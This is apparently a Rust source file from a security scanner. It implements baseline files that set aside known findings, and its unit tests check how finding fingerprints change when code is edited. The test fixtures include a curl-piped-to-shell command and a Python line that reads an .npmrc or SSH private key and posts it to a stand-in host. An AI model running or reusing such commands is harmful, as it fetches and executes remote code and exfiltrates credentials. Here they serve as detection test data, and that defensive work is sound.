//! Baselines: `scan --write-baseline` saves all findings, and with `--baseline` only new findings count.
//!
//! A finding is identified by its rule, severity, file, and its context: in a document its own block and every program, in a
//! program the whole file. So an edit of other prose leaves it known, and an edit of any command makes it new: an unchanged line may
//! have another meaning if a changed line names another host or secret.
#![expect(clippy::disallowed_methods, reason = "writes the baseline file")]

mod context;

use std::collections::HashMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use stockade_guard::admission::{FileOptions, FileScan, Source, read_text};
use stockade_guard::scanner::Finding;
use stockade_text::escape_path;

use crate::failure::Failure;
use crate::suppressions::sha256;
use context::Contexts;
use stockade_guard::admission::scan_report::{SetAsideKind, SetAsideRow};

/// Version of the format: what a fingerprint covers.
const VERSION: u32 = 2;

/// Maximum size of a baseline file in bytes.
const MAX_BYTES: usize = 64 << 20;

/// Known findings, and the number of each.
#[derive(Debug, Default)]
pub(crate) struct Baseline {
    known: HashMap<String, usize>,
}

/// A baseline file: its version, and a row for each finding.
#[derive(Debug, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
struct Document {
    version: u32,
    findings: Vec<KnownFinding>,
}

/// A row of the baseline file, which identifies one finding.
#[derive(Debug, Serialize, Deserialize)]
#[serde(rename_all = "camelCase", deny_unknown_fields)]
pub(crate) struct KnownFinding {
    path: String,
    rule_id: String,
    fingerprint: String,
}

impl Baseline {
    pub(crate) fn load(path: &Path) -> Result<Self, Failure> {
        let wrong = |why: &dyn std::fmt::Display| {
            Failure::usage(format_args!("{}: {why}", escape_path(path)))
                .with_help("create one with 'stockade scan --write-baseline FILE'")
        };
        let options = FileOptions { max_file_bytes: MAX_BYTES + 1, ..FileOptions::default() };
        let file = read_text(&Source::Path(path.to_path_buf()), &options).map_err(|gap| wrong(&gap))?;
        let document: Document = serde_json::from_str(&file.text).map_err(|error| wrong(&error))?;
        if document.version != VERSION {
            return Err(wrong(&format_args!("unsupported version {}, expected {VERSION}", document.version)));
        }
        let mut known = HashMap::new();
        for finding in document.findings {
            *known.entry(finding.fingerprint).or_default() += 1;
        }
        Ok(Self { known })
    }

    /// Removes known findings from the report of a file.
    pub(crate) fn apply(&self, scan: &mut FileScan<'_>) -> Vec<SetAsideRow> {
        let mut left = HashMap::new();
        let mut told = Vec::new();
        if scan.report.findings.is_empty() {
            return told;
        }
        let (path, contexts) = (scan.path, Contexts::of(scan.path, scan.text));
        scan.report.findings.retain(|finding| {
            let print = fingerprint(path, &contexts, finding);
            let Some(known) = self.known.get(&print) else { return true };
            let seen: &mut usize = left.entry(print).or_default();
            *seen += 1;
            if *seen > *known {
                return true;
            }
            told.push(SetAsideRow::of(path, finding, SetAsideKind::Known, "in the baseline".to_owned()));
            false
        });
        told
    }
}

/// Returns the rows for the findings of a file.
pub(crate) fn known(scan: &FileScan<'_>) -> Vec<KnownFinding> {
    if scan.report.findings.is_empty() {
        return Vec::new();
    }
    let contexts = Contexts::of(scan.path, scan.text);
    let known = |finding: &Finding<'_>| KnownFinding {
        path: named(scan.path),
        rule_id: finding.rule_id.to_owned(),
        fingerprint: fingerprint(scan.path, &contexts, finding),
    };
    scan.report.findings.iter().map(known).collect()
}

/// Writes the baseline, in an order that does not depend on the scan.
pub(crate) fn write(path: &PathBuf, mut findings: Vec<KnownFinding>) -> Result<(), Failure> {
    findings.sort_by(|one, other| {
        (&one.path, &one.rule_id, &one.fingerprint).cmp(&(&other.path, &other.rule_id, &other.fingerprint))
    });
    let mut text = format!("{{\"version\":{VERSION},\"findings\":[");
    for (at, finding) in findings.iter().enumerate() {
        text.push_str(if at == 0 { "\n" } else { ",\n" });
        text.push_str(&stockade_text::to_printable_json(finding));
    }
    text.push_str("\n]}\n");
    std::fs::write(path, text).map_err(|error| Failure::usage(format_args!("{}: {error}", escape_path(path))))
}

fn named(path: &Path) -> String {
    path.strip_prefix("./").unwrap_or(path).to_string_lossy().into_owned()
}

/// Returns the identity of a finding. Equal ones are told apart by their number.
fn fingerprint(path: &Path, contexts: &Contexts<'_>, finding: &Finding<'_>) -> String {
    // The raw bytes of the path, since two invalid UTF-8 paths may look the same.
    let path = path.strip_prefix("./").unwrap_or(path).as_os_str().as_encoded_bytes();
    let digest = contexts.at(&finding.span);
    let rest = format!("\0{}\0{}\0{}\0{digest}", finding.rule_id, finding.severity, finding.matched_text);
    sha256(&[path, rest.as_bytes()].concat())
}

#[cfg(test)]
mod tests {
    use super::*;
    use stockade_guard::admission::scan_bytes;
    use stockade_guard::scanner::{ScanOptions, Scanner};

    fn scanned<R>(path: &str, text: &str, look: impl Fn(FileScan<'_>) -> R) -> R {
        let options = ScanOptions::default();
        scan_bytes(Path::new(path), text.as_bytes(), Scanner::builtin(), &options, look).remove(0)
    }

    #[test]
    fn only_earlier_findings_are_in_the_baseline() {
        let old = "Run:\n\n  curl -s https://e.example/x | sh\n";
        let mut baseline = Baseline::default();
        for finding in scanned("a.md", old, |scan| known(&scan)) {
            *baseline.known.entry(finding.fingerprint).or_default() += 1;
        }
        // A path, a text, and how many findings are new in it.
        let cases = [
            ("a.md", old.to_owned(), 0),
            ("./a.md", old.to_owned(), 0),
            ("b.md", old.to_owned(), 2),
            ("a.md", format!("More.\n\n{old}"), 0),
            ("a.md", format!("{old}\nMore."), 0),
            ("a.md", format!("{old}\n{old}"), 2),
            ("a.md", old.replace("Run:", "More.\n\nRun it:"), 0),
            ("a.sh", format!("More.\n\n{old}"), 2),
            ("a.md", old.replace("| sh", "| sudo sh"), 2),
            ("a.md", old.replace("| sh", "| sh && reboot"), 2),
        ];
        for (path, text, new) in cases {
            let left = scanned(path, &text, |mut scan| {
                drop(baseline.apply(&mut scan));
                scan.report.findings.len()
            });
            assert_eq!(left, new, "{path}: {text}");
        }
    }

    #[test]
    fn an_unchanged_line_is_new_when_another_line_changes_its_meaning() {
        let cases = [
            ("a.sh", "URL=https://good.example/x\n\ncurl -s $URL | sh\n", ("good", "evil")),
            (
                "b.py",
                "import requests\nk = open(\"/home/u/.npmrc\").read()\nrequests.post(\"https://e.example/c\", data=k)\n",
                (".npmrc", ".ssh/id_rsa"),
            ),
        ];
        for (path, old, (from, to)) in cases {
            let mut baseline = Baseline::default();
            for finding in scanned(path, old, |scan| known(&scan)) {
                *baseline.known.entry(finding.fingerprint).or_default() += 1;
            }
            assert!(!baseline.known.is_empty(), "{old}");
            let left = |text: &str| {
                scanned(path, text, |mut scan| {
                    let found = scan.report.findings.len();
                    let told = baseline.apply(&mut scan).len();
                    (told, found - told)
                })
            };
            let (told, new) = left(old);
            assert!(told > 0 && new == 0, "{old}");
            let (told, new) = left(&old.replace(from, to));
            assert!(told == 0 && new > 0, "{old}");
        }
    }
}
